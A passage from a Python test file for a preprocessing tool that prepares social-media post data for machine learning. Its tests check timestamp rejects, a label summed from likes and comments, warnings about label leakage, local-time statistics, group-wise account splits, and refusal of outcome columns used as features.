                                 row_of["x1"]: "invalid_datetime", row_of["x2"]: "invalid_datetime"}
    with open(out / "rejects.csv", newline="") as fh:
        detail = {int(r["row"]): r["detail"] for r in csv.DictReader(fh)}
    assert detail[row_of["p0"]].startswith("posted_at: posted 0.5 days before --as-of 2025-06-30T12:00:00+00:00")
    assert "after --as-of" in detail[row_of["x0"]]
    assert "'yesterday' is not a timestamp" in detail[row_of["x2"]]  # a bad cell of the feature column
    assert "time:posted_at needs a time in every row" in detail[row_of["x1"]]  # empty: the split needs one
    assert meta["maturity"] == {"as_of": AS_OF, "min_label_age_days": 7.0, "column": "posted_at",
                                "reason": "label_not_final", "unknown_age": 0}


def test_a_label_made_of_two_counts(time_run, export):
    out, meta = time_run
    table = _table_rows(export)
    for recs in load_split_records(out).values():
        for r in recs:
            assert r.label == float(table[r.row]["likes"]) + float(table[r.row]["comments"])
    assert meta["label"]["columns"] == ["likes", "comments"] and meta["table"]["columns"]["label"] == "likes+comments"


def test_a_feature_that_is_the_label_in_disguise_is_warned_about(time_run):
    _, meta = time_run
    assert [w["column"] for w in meta["label_correlation_warnings"]] == ["reach"]  # followers: no warning
    assert meta["label_correlation_warnings"][0]["pearson"] > 0.9
    assert meta["outcome_columns_allowed"] == ["reach"]


def test_datetime_feature_statistics_in_local_time(time_run):
    out, meta = time_run
    stats = meta["feature_stats"]["posted_at"]
    train = [r.features["posted_at"] for r in load_split_records(out)["train"]]
    assert stats["kind"] == "datetime" and stats["timezone"] == "America/New_York" and stats["missing"] == 0
    assert datetime.fromisoformat(stats["first"]).timestamp() == min(train)
    # every post is at midnight UTC, in spring: 20:00 in New York's daylight saving time (UTC-4)
    hours = {h for h, n in enumerate(stats["local_hour_counts"]) if n}
    assert hours == {20} and sum(stats["local_hour_counts"]) == len(train)


def test_group_split_keeps_every_account_in_one_split(export):
    out = export.parent / "group"
    meta = run(["--input", str(export), "--out", str(out), "--workers", "1", "--label-col", "likes",
                "--split", "group:account_id", "--val-frac", "0.25", "--test-frac", "0.25", "--max-reject-frac", "0"])
    table = _table_rows(export)
    accounts = {s: {table[r.row]["account_id"] for r in recs} for s, recs in load_split_records(out).items()}
    assert all(accounts[s] for s in SPLITS)
    assert not (accounts["train"] & accounts["val"] or accounts["train"] & accounts["test"]
                or accounts["val"] & accounts["test"])
    split = meta["split"]
    assert split["groups"] == {s: len(accounts[s]) for s in SPLITS}
    assert split["achieved_fracs"] == {s: round(meta["counts"]["splits"][s] / len(table), 4) for s in SPLITS}


def test_an_outcome_column_as_a_feature_is_refused(export, tmp_path):
    proc = subprocess.run([sys.executable, "-m", "data_preprocessing.preprocess", "--input", str(export),
                           "--out", str(tmp_path / "o"), "--numeric-cols", "followers:0:,reach"],
                          cwd=REPO_ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    last = proc.stderr.strip().splitlines()[-1]
    assert last.startswith("error: feature column(s) 'reach' (reach) look like outcomes of the post")
    assert "--allow-outcome-cols" in last and not (tmp_path / "o").exists()
